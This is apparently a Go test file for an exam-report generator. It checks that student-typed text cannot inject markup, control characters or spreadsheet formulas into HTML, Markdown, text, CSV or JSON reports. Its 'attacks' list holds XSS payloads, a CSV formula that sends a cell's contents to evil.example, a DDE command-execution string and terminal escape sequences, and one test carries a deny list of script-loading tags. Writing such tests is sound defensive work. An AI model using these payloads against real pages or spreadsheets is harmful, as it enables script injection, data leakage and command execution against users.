package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer/html"

	"gradcheck/internal/exam"
)

// attacks are what a student may type to get out of being text.
var attacks = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`</pre></div></body><iframe src="https://evil.example/"></iframe>`,
	`<!-- `,
	`]]><svg onload=alert(1)>`,
	"```\n</code><script>alert(1)</script>\n# heading\n````\n<b>x</b>",
	`[here](javascript:alert(1)) ![x](https://evil.example/x.png)`,
	`$\href{javascript:alert(1)}{x}$ $<img src=x onerror=alert(1)>$`,
	"`code` **bold** | cell | &lt;b&gt; &#x202e;",
	"{{.Student}} {{template \"entries\" .}}",
	"\x1b]0;title\x07\x1b[31mred\x1b[2J",
	"\u202Eesrever\u2066 \u009b31m\u0085",
	"a\r\nb\rc\td\x00\x7f",
	`=HYPERLINK("https://evil.example/?"&A1,"x")`,
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1;1)",
	"\t=1+1",
	"\r=1+1",
	"＝1+1",
}

// attacked is an exam of a student with a hostile name, who typed an attack in
// every part.
func attacked(t *testing.T, text string) Report {
	t.Helper()
	a := begin(t, exam.Exam)
	a.header.Student = text
	a.s, _ = exam.New(a.header, a.paper)
	a.write("loads", "a", text)
	a.write("loads", "b", text)
	a.write("loads", "c", text)
	a.write("loads", "d", text, text)
	a.write("words", "a", text)
	a.do(exam.Event{Kind: exam.Finish})
	return a.report()
}

// written is a report in a format.
func written(t *testing.T, name string, r Report) string {
	t.Helper()
	f, ok := Lookup(name)
	if !ok {
		t.Fatalf("no format %s", name)
	}
	var b bytes.Buffer
	if err := f.Write(&b, r); err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return b.String()
}

// TestNoControl checks that no format lets anything through that moves a cursor
// or turns the direction of writing.
func TestNoControl(t *testing.T) {
	for _, text := range attacks {
		r := attacked(t, text)
		for _, f := range Formats() {
			for i, c := range written(t, f.Name, r) {
				if c != '\n' && (unicode.IsControl(c) || turns(c)) {
					t.Errorf("%s of %q has %U at %d", f.Name, text, c, i)
					break
				}
			}
		}
	}
}

// elements returns how often each element and attribute is on a page, and what
// its text is. It fails where elements do not close as they open.
func elements(t *testing.T, page string) (count map[string]int, text string) {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(page))
	d.Strict, d.AutoClose, d.Entity = false, []string{"meta", "br", "hr"}, xml.HTMLEntity
	count = map[string]int{}
	var b strings.Builder
	var open []string
	for {
		tok, err := d.RawToken()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatalf("page: %v", err)
		}
		switch tok := tok.(type) {
		case xml.StartElement:
			name := tok.Name.Local
			count[name]++
			for _, at := range tok.Attr {
				count[name+" "+at.Name.Local]++
			}
			if name != "meta" && name != "br" && name != "hr" {
				open = append(open, name)
			}
		case xml.EndElement:
			if len(open) == 0 || open[len(open)-1] != tok.Name.Local {
				t.Fatalf("page: </%s> closes %v", tok.Name.Local, open)
			}
			open = open[:len(open)-1]
		case xml.CharData:
			b.Write(tok)
		}
	}
	if len(open) > 0 {
		t.Fatalf("page: %v stay open", open)
	}
	return count, b.String()
}

// TestHTMLEscapes checks that a page has the same elements, whatever was typed:
// the harmless answer is one that is judged alike.
func TestHTMLEscapes(t *testing.T) {
	known := map[string]bool{}
	for name := range tags(t, written(t, "html", sat(t).report())) {
		known[name] = true
	}
	for _, text := range attacks {
		page := written(t, "html", attacked(t, text))
		count, words := elements(t, page)
		for name := range count {
			if !known[name] {
				t.Errorf("page of %q has <%s>, which no other page has", text, name)
			}
		}
		if shown := strings.TrimSpace(strings.Split(clean(text), "\n")[0]); !strings.Contains(words, shown) {
			t.Errorf("page of %q does not show %q", text, shown)
		}
	}
}

func tags(t *testing.T, page string) map[string]int {
	count, _ := elements(t, page)
	return count
}

// TestHTMLAlone checks that a page loads and runs nothing.
func TestHTMLAlone(t *testing.T) {
	for _, r := range []Report{sat(t).report(), attacked(t, attacks[2])} {
		count := tags(t, written(t, "html", r))
		for _, name := range []string{"script", "link", "img", "iframe", "object", "embed", "base", "form", "input", "video", "audio", "source", "use", "image", "foreignObject"} {
			if count[name] > 0 {
				t.Errorf("page has <%s>", name)
			}
		}
		for name := range count {
			if _, at, ok := strings.Cut(name, " "); ok && (strings.HasPrefix(at, "on") || at == "src" || at == "srcset") {
				t.Errorf("page has the attribute %s", name)
			}
		}
	}
	if regexp.MustCompile(`url\(|@import|expression\(`).MatchString(pageSource) {
		t.Error("the styles of the page load something")
	}
}

// TestMarkdownEscapes renders what is written as Markdown, raw HTML allowed, and
// checks that no element comes of what was typed.
func TestMarkdownEscapes(t *testing.T) {
	md := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(html.WithUnsafe()))
	for _, text := range attacks {
		r := attacked(t, text)
		var b bytes.Buffer
		if err := md.Convert([]byte(written(t, "md", r)), &b); err != nil {
			t.Fatal(err)
		}
		page := b.String()
		for _, bad := range []string{"<script", "<img", "<iframe", "<svg", "<!--", "<a ", "<b>", "<h1>heading", "<strong>bold", "javascript:alert(1)\""} {
			if strings.Contains(page, bad) {
				t.Errorf("Markdown of %q renders to %s", text, around(page, bad))
			}
		}
		if n := strings.Count(page, "<h3"); n != 6 {
			t.Errorf("Markdown of %q renders to %d parts, want 6", text, n)
		}
	}
}

func around(s, at string) string {
	i := strings.Index(s, at)
	return s[max(0, i-40):min(len(s), i+60)]
}

// TestText checks that in plain lines every line that was typed stands after a
// bar, where it cannot pass for the report's own.
func TestText(t *testing.T) {
	r := attacked(t, "x\n2(b) ✓ Correct, 2 of 2 points\n----")
	for l := range strings.Lines(written(t, "text", r)) {
		if strings.HasPrefix(l, "2(b) ✓") {
			t.Errorf("text has the line %q", l)
		}
	}
}

// TestCSV checks that no cell is taken for a formula, that rows have all cells
// and that the text can be had back.
func TestCSV(t *testing.T) {
	for _, text := range attacks {
		rows, err := csv.NewReader(strings.NewReader(written(t, "csv", attacked(t, text)))).ReadAll()
		if err != nil {
			t.Fatalf("CSV of %q: %v", text, err)
		}
		if len(rows) != 7 {
			t.Errorf("CSV of %q has %d rows, want a heading and 6 parts", text, len(rows))
		}
		for _, row := range rows {
			for _, c := range row {
				if strings.IndexAny(c, "=+-@\t\r＝＋－＠") == 0 {
					t.Errorf("CSV of %q has the cell %q", text, c)
				}
			}
		}
	}
}

func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=1+1", "'=1+1"}, {"+1", "'+1"}, {"-1", "'-1"}, {"@x", "'@x"}, {"\t=1", "'\t=1"}, {"\r=1", "'\r=1"}, {"＝1", "'＝1"},
		{"1-1", "1-1"}, {"x=1", "x=1"}, {"", ""}, {"−1", "−1"}, {"'=1", "'=1"},
	}
	for _, c := range tests {
		if got := cell(c.in); got != c.want {
			t.Errorf("cell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestJSON checks that every field is always there, of one type.
func TestJSON(t *testing.T) {
	for _, text := range attacks {
		var v Report
		var raw map[string]any
		s := written(t, "json", attacked(t, text))
		if err := json.Unmarshal([]byte(s), &raw); err != nil {
			t.Fatalf("JSON of %q: %v", text, err)
		}
		for _, p := range raw["problems"].([]any) {
			for _, q := range p.(map[string]any)["parts"].([]any) {
				q := q.(map[string]any)
				for _, list := range []string{"answer", "last", "key", "rubric"} {
					if _, ok := q[list].([]any); !ok {
						t.Fatalf("JSON: %s of %s is %v, want a list", list, q["name"], q[list])
					}
				}
			}
		}
		if err := json.Unmarshal([]byte(s), &v); err != nil {
			t.Fatalf("JSON of %q does not come back: %v", text, err)
		}
		if got := v.Problems[1].Parts[0].Answer[0].Text; got != clean(text) {
			t.Errorf("JSON of %q has the answer %q, want %q", text, got, clean(text))
		}
	}
}

func TestClean(t *testing.T) {
	tests := []struct{ in, want string }{
		{"a\r\nb\rc", "a\nb\nc"}, {"\tx", "    x"}, {"\x1b[0m", "\uFFFD[0m"}, {"\x00\x7f\u009b", "\uFFFD\uFFFD\uFFFD"},
		{"\u202Ex\u2069", "\uFFFDx\uFFFD"}, {"a\u2028b", "a\nb"}, {"\xff", "\uFFFD"}, {"né∑ 👩‍🚀", "né∑ 👩‍🚀"},
	}
	for _, c := range tests {
		if got := clean(c.in); got != c.want {
			t.Errorf("clean(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestPieces checks that marks count where the author wrote them and not where
// the student did.
func TestPieces(t *testing.T) {
	tests := []struct{ why, typed, want string }{
		{"so $x$ is `y`.", "", "words:so |formula:$x$|words: is |code:y|words:."},
		{"got `y` and $x$", "`y`", "words:got `y`|words: and |formula:$x$"},
		{"got $x$, not $y$", "$x$", "words:got $x$, not |formula:$y$"},
		{"costs $5", "", "words:costs $5"},
		{"a ` alone", "", "words:a ` alone"},
	}
	for _, c := range tests {
		var got []string
		for _, p := range pieces(c.why, []Entry{{Text: c.typed}}) {
			got = append(got, map[pieceKind]string{words: "words:", code: "code:", formula: "formula:"}[p.kind]+p.text)
		}
		if s := strings.Join(got, "|"); s != c.want {
			t.Errorf("pieces(%q) with %q typed = %s, want %s", c.why, c.typed, s, c.want)
		}
	}
}
